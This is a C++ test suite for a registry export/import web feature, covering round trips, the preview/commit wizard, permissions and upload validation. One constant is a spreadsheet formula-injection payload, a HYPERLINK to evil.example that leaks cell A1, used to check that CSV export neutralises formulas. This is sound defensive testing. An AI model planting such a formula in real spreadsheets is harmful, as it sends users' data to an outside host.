// Registry export/import: the round trip through the real writers and readers (export ->
// import changes nothing, for .xlsx and .csv), and the upload -> preview -> commit wizard
// through the real server.
#include <filesystem>
#include <regex>

#include "core/strings.h"
#include "http_fixture.h"
#include "importers/registry_import.h"
#include "reports/registry_export.h"
#include "storage/registry_store.h"
#include "storage/workspace_store.h"

namespace corridor::testing {
namespace {

namespace imp = importers::registry;

const std::string kEvil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";

class ExchangeHttpTest : public WebTest {
 protected:
  void SetUp() override {
    WebTest::SetUp();
    // Uploads are kept under <data_dir>/uploads: a directory of this test's own.
    if (app_) app_->config.data_dir = dir_.File("data");
  }
  std::string UploadDir() const { return dir_.File("data") + "/uploads"; }

  domain::Workspace Ws() {
    auto c = db_->Acquire();
    return **storage::WorkspaceStore(*c).FindBySlug("neo-cycle");
  }
  std::vector<domain::SisterProject> All() {
    auto c = db_->Acquire();
    return *storage::RegistryStore(*c).All(neo_cycle_id_);
  }
  int64_t Count() { return static_cast<int64_t>(All().size()); }

  // Gives a demo record values that are hard to round-trip: formulas, a leading minus,
  // apostrophes, line breaks, accents, a decimal budget, dates.
  void MakeAwkward() {
    auto c = db_->Acquire();
    storage::RegistryStore store(*c);
    auto p = **store.FindByAcronym(neo_cycle_id_, "HARMONY");
    p.fields["short_description"] = kEvil;
    p.fields["objectives"] = "First line\nsecond line: Société, Liège, Łódź\n- a bullet";
    p.fields["keywords"] = "-5 magnets; +recycling; @home";
    p.fields["challenges"] = "'=already quoted";
    p.fields["results"] = "'plain apostrophe";
    p.fields["budget_eur"] = "7345678.5";
    p.fields["start_date"] = "2023-06-01";
    p.fields["end_date"] = "2027-05-31";
    p.fields["contact_email"] = "info@harmony.example.eu";
    p.fields["partner_count"] = "17";
    auto out = store.Update(p, {}, storage::ChangeSource::kUser);
    ASSERT_TRUE(out.ok() && out->ok());
  }

  // Export with the real writers, import with the real readers: nothing changes.
  void ExpectRoundTripChangesNothing(const std::string& filename, const std::string& bytes) {
    domain::Workspace ws = Ws();
    auto before = All();
    auto sheet = imp::ReadFile(filename, bytes, ws.acronym);
    ASSERT_TRUE(sheet.ok()) << sheet.status().message();
    auto mapping = imp::AutoMap(sheet->headers, ws.acronym);
    ASSERT_EQ(mapping.size(), 34u);
    for (const auto& m : mapping) EXPECT_FALSE(m.target.empty()) << "unmapped column " << m.header;
    auto c = db_->Acquire();
    auto pv = imp::BuildPreview(*c, ws, *sheet, mapping);
    ASSERT_TRUE(pv.ok()) << pv.status().message();
    EXPECT_TRUE(pv->mapping_errors.empty());
    for (const auto& e : pv->errors) ADD_FAILURE() << filename << ": " << e.ToString();
    for (const auto& r : pv->rows)
      for (const auto& ch : r.changes)
        ADD_FAILURE() << filename << " row " << r.row << " " << ch.label << ": [" << ch.old_value << "] -> ["
                      << ch.new_value << "]";
    EXPECT_EQ(pv->creates, 0);
    EXPECT_EQ(pv->updates, 0);
    EXPECT_EQ(pv->unchanged, static_cast<int>(before.size()));
    auto done = imp::Commit(*c, ws, *pv, {}, false);
    ASSERT_TRUE(done.ok()) << done.status().message();
    EXPECT_EQ(done->created, 0);
    EXPECT_EQ(done->updated, 0);
    auto after = All();
    ASSERT_EQ(after.size(), before.size());
    for (size_t i = 0; i < after.size(); ++i) {
      EXPECT_EQ(after[i].fields, before[i].fields);
      EXPECT_EQ(after[i].value_chain_links, before[i].value_chain_links);
      EXPECT_EQ(after[i].topic, before[i].topic);
      EXPECT_EQ(after[i].grant_id, before[i].grant_id);
      EXPECT_EQ(after[i].version, before[i].version);  // not even a new version
    }
  }

  static std::string Find(const std::string& body, const std::string& pattern) {
    std::smatch m;
    if (std::regex_search(body, m, std::regex(pattern))) return m[1];
    return "";
  }

  // The commit form of a preview page, as the browser would post it.
  static httplib::Params CommitForm(const std::string& page, bool skip_errors) {
    httplib::Params form;
    form.emplace("token", Find(page, R"re(name="token" value="([0-9a-f]{64})")re"));
    form.emplace("fingerprint", Find(page, R"re(name="fingerprint" value="([0-9a-f]{64})")re"));
    form.emplace("mapped", "1");
    static const std::regex re(R"re(<input type="hidden" name="(map_[0-9]+)" value="([^"]*)">)re");
    for (auto it = std::sregex_iterator(page.begin(), page.end(), re); it != std::sregex_iterator(); ++it)
      form.emplace((*it)[1], (*it)[2]);
    if (skip_errors) form.emplace("skip_errors", "1");
    return form;
  }
};

TEST_F(ExchangeHttpTest, ExportedXlsxReimportsWithNoChange) {
  MakeAwkward();
  auto x = reports::RegistryXlsx(All(), "NEO-CYCLE");
  ASSERT_TRUE(x.ok()) << x.status().message();
  ExpectRoundTripChangesNothing("registry.xlsx", *x);
}

TEST_F(ExchangeHttpTest, ExportedCsvReimportsWithNoChange) {
  MakeAwkward();
  std::string csv = reports::RegistryCsv(All(), "NEO-CYCLE");
  // The formula is neutralised in the file...
  EXPECT_EQ(csv.find("," + std::string("=HYPERLINK")), std::string::npos);
  EXPECT_NE(csv.find("'=HYPERLINK"), std::string::npos);
  // ...and comes back as the text it was.
  ExpectRoundTripChangesNothing("registry.csv", csv);
  auto harmony = All();
  for (auto& p : harmony) {
    if (p.Get("acronym") == "HARMONY") {
      EXPECT_EQ(p.Get("short_description"), kEvil);
    }
  }
}

TEST_F(ExchangeHttpTest, ExportDownloadsForViewers) {
  WebClient viewer = LoggedIn("viewer@test");
  auto page = viewer.Get("/w/neo-cycle/exchange");
  ASSERT_TRUE(page);
  EXPECT_EQ(page->status, 200);
  EXPECT_NE(page->body.find("/w/neo-cycle/export/registry.xlsx"), std::string::npos);
  EXPECT_EQ(page->body.find("/import/preview"), std::string::npos);  // no upload form for viewers
  EXPECT_NE(page->body.find("editor role"), std::string::npos);

  auto x = viewer.Get("/w/neo-cycle/export/registry.xlsx");
  ASSERT_TRUE(x);
  EXPECT_EQ(x->status, 200);
  EXPECT_EQ(x->get_header_value("Content-Type"),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
  EXPECT_NE(x->get_header_value("Content-Disposition").find(".xlsx\""), std::string::npos);
  EXPECT_EQ(x->body.substr(0, 4), std::string("PK\x03\x04", 4));
  auto sheet = imp::ReadFile("registry.xlsx", x->body, "NEO-CYCLE");
  ASSERT_TRUE(sheet.ok()) << sheet.status().message();
  EXPECT_EQ(sheet->header_row, 2);  // under the section row
  EXPECT_EQ(sheet->rows.size(), 29u);

  auto csv = viewer.Get("/w/neo-cycle/export/registry.csv");
  ASSERT_TRUE(csv);
  EXPECT_EQ(csv->status, 200);
  EXPECT_EQ(csv->get_header_value("Content-Type"), "text/csv; charset=utf-8");
  EXPECT_EQ(csv->body.rfind("\xEF\xBB\xBFProject name,Project acronym,", 0), 0u);
  EXPECT_NE(csv->body.find("Value-chain links,Topic,Level,Stage,CORDIS grant ID\r\n"), std::string::npos);
}

TEST_F(ExchangeHttpTest, ViewerCannotImport) {
  WebClient viewer = LoggedIn("viewer@test");
  viewer.RefreshCsrf("/w/neo-cycle/exchange");
  auto r = viewer.PostMultipart("/w/neo-cycle/import/preview", {{"file", "a,b\r\n", "x.csv", "text/csv"}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 403);
  auto c = viewer.Post("/w/neo-cycle/import/commit", {{"token", std::string(64, 'a')}});
  ASSERT_TRUE(c);
  EXPECT_EQ(c->status, 403);
}

TEST_F(ExchangeHttpTest, ExportThenUploadPreviewsNoChange) {
  WebClient editor = LoggedIn("editor@test");
  editor.RefreshCsrf("/w/neo-cycle/exchange");
  auto x = editor.Get("/w/neo-cycle/export/registry.xlsx");
  ASSERT_TRUE(x && x->status == 200);
  auto pv = editor.PostMultipart("/w/neo-cycle/import/preview",
                                 {{"file", x->body, "neo-cycle.xlsx",
                                   "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}});
  ASSERT_TRUE(pv);
  ASSERT_EQ(pv->status, 200) << pv->body;
  EXPECT_NE(pv->body.find("<strong>0</strong> new, <strong>0</strong> to update, 29 unchanged"), std::string::npos);
  EXPECT_NE(pv->body.find("Nothing to import"), std::string::npos);
  EXPECT_EQ(pv->body.find("/import/commit"), std::string::npos);
  EXPECT_NE(pv->body.find("header on row 2"), std::string::npos);
  EXPECT_EQ(pv->body.find("<script>"), std::string::npos);
}

TEST_F(ExchangeHttpTest, UploadPreviewCommitWithErrorsIsAllOrNothingThenSkips) {
  WebClient editor = LoggedIn("editor@test");
  editor.RefreshCsrf("/w/neo-cycle/exchange");
  auto csv = editor.Get("/w/neo-cycle/export/registry.csv");
  ASSERT_TRUE(csv && csv->status == 200);
  // Edit the export as a user would: change one record, add a new one and a broken one.
  std::string body = csv->body;
  // One record's relevance comment (the first "very high" one) is rewritten.
  const std::string was = "Rated very high in NEO-CYCLE's sister-project mapping (D11.3, Table 2).";
  size_t at = body.find(was);
  ASSERT_NE(at, std::string::npos);
  std::string changed = body.substr(0, at) + "Rated very high; met at the Seville workshop." + body.substr(at + was.size());
  auto fields = [](const std::string& acronym, const std::string& country) {
    // 29 fields + 5 analytical, in export order.
    std::vector<std::string> v = {acronym + " full name", acronym, "", "", "", "Ongoing", "", "", "", "Coordinator SA",
                                  country, "9", "0", "none", "Horizon Europe", "", "", "Short.", "recycling",
                                  "Aims.", "magnets", "", "", "", "", "", "", "3", "Useful.", "Research", "Research",
                                  "", "", ""};
    return strings::Join(v, ",") + "\r\n";
  };
  std::string edited = changed + fields("NEWPROJ", "FR") + fields("BROKEN", "France");
  auto pv = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", edited, "edited.csv", "text/csv"}});
  ASSERT_TRUE(pv);
  ASSERT_EQ(pv->status, 200) << pv->body;
  EXPECT_NE(pv->body.find("<strong>1</strong> new"), std::string::npos);
  EXPECT_NE(pv->body.find("<strong>1</strong> with errors"), std::string::npos);
  EXPECT_NE(pv->body.find("NEWPROJ"), std::string::npos);
  // The error names the row as in the file (header = row 1, 29 records, NEWPROJ = row 31).
  EXPECT_NE(pv->body.find("<td class=\"num\">32</td><td>Coordinator country</td>"), std::string::npos) << pv->body;
  EXPECT_NE(pv->body.find("is not a two-letter country code"), std::string::npos);
  EXPECT_NE(pv->body.find("Relevance comment"), std::string::npos);  // the update's changed field
  EXPECT_NE(pv->body.find("skip the 1 row with errors"), std::string::npos);
  EXPECT_NE(pv->body.find("<select name=\"map_1\""), std::string::npos);
  int64_t before = Count();

  // Without the tick box: refused, nothing written.
  auto refused = editor.Post("/w/neo-cycle/import/commit", CommitForm(pv->body, false));
  ASSERT_TRUE(refused);
  EXPECT_EQ(refused->status, 400);
  EXPECT_NE(refused->body.find("nothing was imported"), std::string::npos);
  EXPECT_EQ(Count(), before);

  // With it: the valid rows in one go, the skipped row reported.
  auto done = editor.Post("/w/neo-cycle/import/commit", CommitForm(pv->body, true));
  ASSERT_TRUE(done);
  ASSERT_EQ(done->status, 303) << done->body;
  std::string location = done->get_header_value("Location");
  EXPECT_EQ(location.rfind("/w/neo-cycle/import/result?token=", 0), 0u);
  EXPECT_EQ(Count(), before + 1);
  auto report = editor.Get(location);
  ASSERT_TRUE(report);
  EXPECT_EQ(report->status, 200);
  EXPECT_NE(report->body.find("<strong>1</strong> created, <strong>1</strong> updated"), std::string::npos)
      << report->body;
  EXPECT_NE(report->body.find("<td class=\"num\">32</td><td>Coordinator country</td>"), std::string::npos);
  // The upload is gone after the commit (only the import report stays, for 24 hours).
  for (const auto& f : std::filesystem::directory_iterator(UploadDir()))
    EXPECT_TRUE(strings::EndsWith(f.path().string(), ".result.json")) << f.path();
  auto again = editor.Post("/w/neo-cycle/import/commit", CommitForm(pv->body, true));
  ASSERT_TRUE(again);
  EXPECT_EQ(again->status, 400);
  EXPECT_NE(again->body.find("no longer available"), std::string::npos);
  // The history says who imported.
  auto c = db_->Acquire();
  auto n = c->Scalar("SELECT COUNT(*) FROM audit_log WHERE entity = 'registry_import' AND user_name = 'Eddie Editor'");
  ASSERT_TRUE(n.ok() && *n);
  EXPECT_EQ(std::get<int64_t>(**n), 1);
}

TEST_F(ExchangeHttpTest, EditedMappingAndStalePreview) {
  WebClient editor = LoggedIn("editor@test");
  editor.RefreshCsrf("/w/neo-cycle/exchange");
  auto csv = editor.Get("/w/neo-cycle/export/registry.csv");
  auto pv = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", csv->body, "r.csv", "text/csv"}});
  ASSERT_TRUE(pv && pv->status == 200);
  std::string token = Find(pv->body, R"re(name="token" value="([0-9a-f]{64})")re");
  ASSERT_EQ(token.size(), 64u);
  // Re-map "Keywords" (column U, index 20) to "not imported", and Topic to Industry field.
  auto remap = editor.Post("/w/neo-cycle/import/preview",
                           {{"token", token}, {"mapped", "1"}, {"map_0", "name"}, {"map_1", "acronym"},
                            {"map_30", "industry_field"}, {"map_18", ""}});
  ASSERT_TRUE(remap);
  ASSERT_EQ(remap->status, 200);
  EXPECT_NE(remap->body.find("<option value=\"industry_field\" selected>"), std::string::npos);
  EXPECT_NE(remap->body.find("<td>Industry field</td>"), std::string::npos);  // listed among the updates
  // A fingerprint from another preview is refused with the fresh preview.
  httplib::Params form = CommitForm(pv->body, false);
  form.erase("fingerprint");
  form.emplace("fingerprint", std::string(64, '0'));
  auto stale = editor.Post("/w/neo-cycle/import/commit", form);
  ASSERT_TRUE(stale);
  EXPECT_EQ(stale->status, 409);
  EXPECT_NE(stale->body.find("changed since this preview"), std::string::npos);
  // Another user cannot use this upload.
  WebClient admin = LoggedIn("admin@test");
  admin.RefreshCsrf("/w/neo-cycle/exchange");
  auto other = admin.Post("/w/neo-cycle/import/preview", {{"token", token}});
  ASSERT_TRUE(other);
  EXPECT_EQ(other->status, 400);
  EXPECT_NE(other->body.find("no longer available"), std::string::npos);
}

TEST_F(ExchangeHttpTest, UploadsOlderThanADayAreRemoved) {
  std::filesystem::create_directories(UploadDir());
  std::string old_token(64, 'b');
  std::string old_file = UploadDir() + "/" + old_token + ".bin";
  WriteFile(old_file, "a,b\r\n");
  WriteFile(UploadDir() + "/" + old_token + ".json", "{}");
  auto day_ago = std::filesystem::file_time_type::clock::now() - std::chrono::hours(25);
  std::filesystem::last_write_time(old_file, day_ago);
  std::filesystem::last_write_time(UploadDir() + "/" + old_token + ".json", day_ago);
  WebClient editor = LoggedIn("editor@test");
  editor.RefreshCsrf("/w/neo-cycle/exchange");
  auto csv = editor.Get("/w/neo-cycle/export/registry.csv");
  auto r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", csv->body, "r.csv", "text/csv"}});
  ASSERT_TRUE(r && r->status == 200);
  EXPECT_FALSE(std::filesystem::exists(old_file));
  std::string token = Find(r->body, R"re(name="token" value="([0-9a-f]{64})")re");
  EXPECT_TRUE(std::filesystem::exists(UploadDir() + "/" + token + ".bin"));  // the new one stays
}

TEST_F(ExchangeHttpTest, OversizeAndMistypedUploadsAreRefused) {
  WebClient editor = LoggedIn("editor@test");
  editor.RefreshCsrf("/w/neo-cycle/exchange");
  std::string big(imp::kMaxUploadBytes + 1024, 'a');
  auto r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", big, "big.csv", "text/csv"}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);  // see kTooLargeStatus in exchange.cc
  EXPECT_NE(r->body.find("at most 20 MB"), std::string::npos) << r->body;
  EXPECT_NE(r->body.find("type=\"file\""), std::string::npos);  // the form to try again

  r = editor.PostMultipart("/w/neo-cycle/import/preview",
                           {{"file", "this is not a workbook", "fake.xlsx", "application/octet-stream"}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_NE(r->body.find("not an Excel workbook"), std::string::npos);

  r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", "a,b\r\n", "notes.txt", "text/plain"}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_NE(r->body.find("neither an .xlsx nor a .csv"), std::string::npos);

  std::string truncated = "PK\x03\x04";
  truncated += std::string(200, 'x');
  r = editor.PostMultipart("/w/neo-cycle/import/preview", {{"file", truncated, "broken.xlsx", "application/zip"}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_NE(r->body.find("cannot be read"), std::string::npos);

  r = editor.PostMultipart("/w/neo-cycle/import/preview", {});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 400);
  EXPECT_NE(r->body.find("choose an .xlsx or .csv file"), std::string::npos);
  EXPECT_EQ(Count(), 29);
}

}  // namespace
}  // namespace corridor::testing
